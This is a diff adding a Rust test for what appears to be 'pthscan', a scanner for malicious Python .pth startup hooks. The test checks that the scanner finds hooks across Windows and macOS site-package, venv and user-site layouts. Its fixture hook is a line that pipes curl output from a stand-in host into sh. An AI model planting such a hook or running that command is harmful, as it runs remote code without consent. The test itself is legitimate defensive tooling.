@@ -342,3 +342,87 @@ fn a_path_naming_the_filesystem_root_is_the_host_sweep() {
         stderr(&out)
     );
 }
+
+/// A mounted Windows or macOS disk: each layout's site directories found under `--root`, the
+/// Windows prefix as the site directory `site` makes it (a `.pth` at the top of an
+/// installation or a venv runs), and user sites told apart from installations.
+#[test]
+fn windows_and_macos_layouts_under_root_are_found() {
+    let dir = tempfile::tempdir().unwrap();
+    let r = dir.path();
+    let hook = b"import os; os.system('curl -s http://x.invalid | sh')\n";
+    let win = "Users/ann/AppData/Local/Programs/Python/Python312";
+    let roaming = "Users/ann/AppData/Roaming/Python/Python312";
+    let venv = "proj/.venv";
+    let framework = "Library/Frameworks/Python.framework/Versions/3.12";
+    let mac_user = "Users/bob/Library/Python/3.12";
+    for site in [
+        format!("{win}/Lib/site-packages"),
+        format!("{roaming}/site-packages"),
+        format!("{venv}/Lib/site-packages"),
+        format!("{framework}/lib/python3.12/site-packages"),
+        format!("{mac_user}/lib/python/site-packages"),
+    ] {
+        put(r, &format!("{site}/e.pth"), hook);
+    }
+    put(r, &format!("{win}/top.pth"), hook);
+    put(r, &format!("{win}/python.exe"), b"MZ");
+    put(r, &format!("{venv}/top.pth"), hook);
+    put(
+        r,
+        &format!("{venv}/pyvenv.cfg"),
+        b"home = C:\\Python312\nversion = 3.12.1\n",
+    );
+    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let hooks: Vec<String> = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "PTH001")
+        .map(|f| {
+            let p = f["location"]["path"].as_str().unwrap();
+            p.strip_prefix(r.to_str().unwrap()).unwrap()[1..].to_owned()
+        })
+        .collect();
+    for want in [
+        format!("{win}/Lib/site-packages/e.pth"),
+        format!("{win}/top.pth"),
+        format!("{roaming}/site-packages/e.pth"),
+        format!("{venv}/Lib/site-packages/e.pth"),
+        format!("{venv}/top.pth"),
+        format!("{framework}/lib/python3.12/site-packages/e.pth"),
+        format!("{mac_user}/lib/python/site-packages/e.pth"),
+    ] {
+        assert_eq!(
+            hooks.iter().filter(|h| **h == want).count(),
+            1,
+            "{want} once: {hooks:#?}"
+        );
+    }
+    let envs: Vec<(String, String, String)> = json["environments"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| {
+            let root = e["root"].as_str().unwrap();
+            (
+                root.strip_prefix(r.to_str().unwrap()).unwrap()[1..].to_owned(),
+                e["kind"].as_str().unwrap().to_owned(),
+                e["python"].as_str().unwrap_or("?").to_owned(),
+            )
+        })
+        .collect();
+    for (root, kind) in [
+        (win, "interpreter"),
+        (roaming, "user-site"),
+        (venv, "venv"),
+        (framework, "interpreter"),
+        (mac_user, "user-site"),
+    ] {
+        assert!(
+            envs.contains(&(root.to_owned(), kind.to_owned(), "3.12".to_owned())),
+            "{root} {kind} 3.12: {envs:#?}"
+        );
+    }
+}
